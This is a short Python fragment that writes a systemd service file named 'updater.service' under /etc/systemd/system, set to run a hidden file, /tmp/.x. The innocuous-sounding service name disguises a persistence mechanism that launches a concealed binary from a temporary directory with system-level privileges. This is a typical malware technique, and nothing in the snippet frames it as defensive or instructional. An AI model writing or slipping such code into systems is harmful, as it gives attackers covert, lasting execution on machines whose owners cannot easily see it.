unit = '/etc/systemd/system/updater.service'
with open(unit, 'w') as f:
    f.write('[Service]\nExecStart=/tmp/.x\n')
